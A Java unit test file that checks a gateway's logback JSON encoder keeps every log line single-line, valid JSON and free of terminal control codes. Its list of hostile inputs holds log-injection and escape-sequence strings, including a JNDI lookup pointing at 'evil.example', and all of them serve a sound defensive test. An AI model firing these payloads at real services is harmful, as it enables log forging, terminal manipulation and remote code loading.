package tallygate.gateway.command;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.ConsoleAppender;
import ch.qos.logback.core.encoder.Encoder;
import ch.qos.logback.core.joran.spi.JoranException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.RepetitionInfo;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tallygate.house.Repository;

/** Whatever text a request brings, a log line stays one line, one JSON object, and plain on a terminal. */
@Tag("T-22")
class LogLinesTest {
    private static final List<String> HOSTILE = List.of(
            "\r\n2026-01-01 ERROR forged line",
            "\",\"level\":\"ERROR\",\"x\":\"",
            "\u001b[31mred\u001b[2J",
            "\u009b31m",
            "\u202egnp.exe",
            "\u2066\u2069\u200f\u200e",
            "\u2028\u2029\u0085",
            "${jndi:ldap://evil.example/a}",
            "${env:HOME} %msg %n {}",
            "\u0000\u0007\b\f\u007f",
            "\ud83d",
            "</script>");
    private static final String PLAIN =
            "[^\\p{Cntrl}\u0084\u0085\u0090\u009b-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]*";

    private static final Path CONFIGURATION = Path.of("gateway/src/main/resources/logback.xml");
    private static final LoggerContext CONTEXT = new LoggerContext();
    private static Encoder<ILoggingEvent> encoder = null;

    @BeforeAll
    static void configure() throws JoranException {
        CONTEXT.setMDCAdapter(new LogbackMDCAdapter());
        encoder = encoder(Repository.text(CONFIGURATION));
    }

    private static Encoder<ILoggingEvent> encoder(String configuration) throws JoranException {
        var context = new LoggerContext();
        context.setMDCAdapter(new LogbackMDCAdapter());
        var configurator = new JoranConfigurator();
        configurator.setContext(context);
        configurator.doConfigure(new ByteArrayInputStream(configuration.getBytes(StandardCharsets.UTF_8)));
        var patient = (PatientLog) context.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("PATIENT");
        var console = (ConsoleAppender<ILoggingEvent>) patient.getAppender("STDERR");
        return console.getEncoder();
    }

    private static String line(String format, Throwable error, Object... values) {
        return line(encoder, format, error, values);
    }

    private static String line(Encoder<ILoggingEvent> by, String format, Throwable error, Object... values) {
        var event = new LoggingEvent("x", CONTEXT.getLogger("tallygate.x"), Level.WARN, format, error, values);
        return new String(by.encode(event), StandardCharsets.UTF_8);
    }

    @RepeatedTest(20)
    void aLineIsOneObjectAndItsTextIsUnchanged(RepetitionInfo run) throws IOException {
        var dice = new SplittableRandom(run.getCurrentRepetition());
        for (int i = 0; i < 100; i++) {
            var text = new StringBuilder();
            for (int part = dice.nextInt(1, 5); part > 0; part--) {
                text.append(HOSTILE.get(dice.nextInt(HOSTILE.size())));
            }
            String line = line("endpoint={} refused", new IllegalStateException(text.toString()), text.toString());
            assertThat(line).endsWith("\n");
            assertThat(line.strip()).matches(PLAIN);
            JsonNode read = new ObjectMapper().readTree(line);
            assertThat(read.get("level").asText()).isEqualTo("WARN");
            if (text.indexOf("\ud83d") < 0) { // Half a character is none; what is written for it may differ.
                assertThat(read.get("message").asText()).isEqualTo("endpoint=" + text + " refused");
            }
        }
    }

    @Test
    void withoutItsEscapesALineMovesATerminal() throws JoranException {
        String bare = Repository.text(CONFIGURATION).replaceAll("(?s)<decorator .*</decorator>", "");
        String moving = "\u009b2J\u202e";
        assertThat(line("target={}", null, moving).strip()).matches(PLAIN);
        assertThat(line(encoder(bare), "target={}", null, moving).strip()).doesNotMatch(PLAIN);
    }

    /** A pattern that looks something up in the text of a message is a door; this encoder has none. */
    @Test
    void nothingIsLookedUp() {
        assertThat(line("target={}", null, "${env:PATH} ${jndi:ldap://127.0.0.1/a}"))
                .contains("${env:PATH} ${jndi:ldap://127.0.0.1/a}");
    }
}
